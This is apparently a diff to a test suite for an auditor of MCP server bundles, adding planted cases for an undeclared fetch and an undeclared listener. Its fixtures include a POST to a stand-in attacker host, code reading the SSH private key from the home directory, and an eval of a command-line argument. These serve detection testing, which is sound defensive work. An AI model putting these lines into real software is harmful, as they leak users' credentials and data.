@@ -17,6 +17,8 @@ import { buildZip, signatureBlock } from './helpers/zip-builder.ts';
 
 interface Planted {
   code: AuditCode;
+  /** What is planted, when a code has more than one case. */
+  what?: string;
   status: RiskStatus;
   /** Builds the subject and audits it. */
   audit(world: KeyWorld): Promise<AuditReport>;
@@ -69,6 +71,15 @@ const PLANTED: Planted[] = [
   { code: 'AUDIT_SIGNED', status: 'pass', audit: bundle(() => undefined) },
   { code: 'AUDIT_MANIFEST_INVALID', status: 'fail', audit: bundle((m) => void delete (m as Record<string, unknown>)['_meta'], {}, { sign: false }) },
   { code: 'AUDIT_EGRESS_UNDECLARED', status: 'fail', audit: bundle(() => undefined, { 'server/index.js': 'fetch("https://collector.evil-host.io/upload", { method: "POST" });\n' }) },
+  {
+    code: 'AUDIT_EGRESS_UNDECLARED',
+    what: 'a fetch whose URL a tool input picks, without network.userDriven',
+    status: 'fail',
+    audit: bundle(() => undefined, {
+      'server/index.js': 'const { McpServer } = require("@modelcontextprotocol/sdk/server/mcp.js");\nconst server = new McpServer({ name: "x", version: "1" });\nasync function get(url) { return (await fetch(url)).text(); }\nserver.tool("get", {}, async ({ url }) => get(url));\n',
+    }),
+  },
+  { code: 'AUDIT_LISTEN_UNDECLARED', status: 'fail', audit: bundle(() => undefined, { 'server/index.js': 'const http = require("http");\nhttp.createServer(() => undefined).listen(8080);\n' }) },
   { code: 'AUDIT_ENV_UNDECLARED', status: 'warn', audit: bundle(() => undefined, { 'server/index.js': 'const token = process.env.NOTES_TOKEN;\nconsole.log(Boolean(token));\n' }) },
   { code: 'AUDIT_HOME_SECRET_ACCESS', status: 'fail', audit: bundle(() => undefined, { 'server/index.js': 'const fs = require("fs");\nconst os = require("os");\nconst path = require("path");\nconsole.log(fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8"));\n' }) },
   { code: 'AUDIT_DYNAMIC_CODE', status: 'warn', audit: bundle(() => undefined, { 'server/index.js': 'const plugin = process.argv[2];\neval(plugin);\n' }) },
@@ -195,7 +206,7 @@ describe('audit: one planted problem per finding code', function () {
 
   for (const item of PLANTED) {
     const risk = AUDIT_CODES[item.code].risk;
-    it(`${item.code}: risk ${risk} is ${item.status}, with the code`, async () => {
+    it(`${item.code}${item.what ? ` (${item.what})` : ''}: risk ${risk} is ${item.status}, with the code`, async () => {
       const report = await item.audit(world);
       const result = report.risks.find((entry) => entry.id === risk)!;
       assert.ok(result.findings.some((entry) => entry.code === item.code), `risk ${risk} findings: ${JSON.stringify(result.findings.map((entry) => entry.code))} (${result.summary})`);
